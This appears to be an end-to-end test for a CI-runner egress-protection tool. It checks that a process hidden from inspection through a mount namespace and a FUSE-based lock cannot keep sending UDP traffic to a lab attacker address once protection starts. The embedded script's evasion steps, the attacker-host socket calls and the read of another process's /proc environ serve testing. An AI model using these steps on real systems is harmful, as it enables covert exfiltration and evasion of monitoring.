using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;
using Sallyport.Lab.Processes;

namespace Sallyport.EndToEnd.Tests;

/// <summary>
/// A process of an earlier step lets nobody look into it, and the start of protection looks at what runs already. Alone, for whoever reads
/// arguments of processes waits as long as it lives.
/// </summary>
[Collection(nameof(Alone))]
public sealed class WithheldTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    /// <summary>
    /// It takes the lock of its address space with the right to mount alone, which a namespace of its own gives anybody, and to open
    /// /dev/fuse, which most machines let everybody; then it is the user's.
    /// </summary>
    private static string LeftWithholding(string protect) => $$"""
        name: Withheld
        on: push
        jobs:
          build:
            runs-on: self-hosted
            steps:
              - name: Leaves
                id: leaves
                run: |
                  {{ActionFolder.TakeWrapped}}
                  cat > withhold.py <<'END'
                  {{WithheldProcess.Script.ReplaceLineEndings("\n          ")}}
                  import socket
                  where, signs, user = sys.argv[1], sys.argv[2], int(sys.argv[3])
                  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                  s.connect(("{{LabAddresses.Attacker}}", 9999))
                  s.send(b"udp-first")
                  withhold(where, user)
                  with open(signs + "/kept.new", "w") as kept: kept.write(str(os.getpid()))
                  os.rename(signs + "/kept.new", signs + "/kept")
                  while not os.path.exists(signs + "/go"): time.sleep(0.05)
                  for i in range(3):
                      try: s.send(b"udp-left")
                      except OSError: pass
                  os.kill(server, signal.SIGKILL)
                  os.close(os.open(signs + "/udp-sent", os.O_CREAT | os.O_WRONLY))
                  END
                  mkdir withheld
                  setsid sudo -n unshare --mount python3 withhold.py "$PWD/withheld" "$SIGNS" "$(id -u)" < /dev/null > withheld.log 2>&1 &
                  for i in $(seq 800); do [ -e "$SIGNS/kept" ] && break; sleep 0.05; done
                  [ -e "$SIGNS/kept" ] || { cat withheld.log; exit 1; }
              {{protect}}
              - name: After
                id: after
                run: |
                  touch "$SIGNS/go"
                  for i in $(seq 800); do [ -e "$SIGNS/udp-sent" ] && exit 0; sleep 0.05; done
                  exit 1
        """;

    [Fact]
    public async Task What_lets_nobody_look_into_it_does_not_hold_protection_up()
    {
        // Whoever looks into it waits.
        WorkflowRun control = await fixture.Machine.RunAsync(LeftWithholding("""
            - name: Looks
                    run: sudo -n timeout 1 cat "/proc/$(cat "$SIGNS/kept")/environ" && exit 1 || [ $? = 124 ]
            """), "--user", RunnerMachine.User);
        Assert.True(control.ConclusionOf() == "success", control.ToString());
        Assert.True(control.Traffic.Contains("udp-left"), control.ToString());

        WorkflowRun run = await fixture.Machine.RunAsync(LeftWithholding("""
            - name: Protect
                    uses: ./wrapped
                    with:
                      mode: block
                      endpoints: v4.test:80
            """), "--user", RunnerMachine.User);
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("udp-first"), run.ToString());
        Assert.False(run.Traffic.Contains("udp-left"), run.ToString());
        Assert.Contains("let nobody look into them", run.ToString(), StringComparison.Ordinal);
        Assert.Contains(run.Report.Connections, row => row.GetProperty("port").GetInt32() == 9999
            && (JobReport.Text(row, "verdict"), JobReport.Text(row, "address")) == ("refused", LabAddresses.Attacker));
    }
}
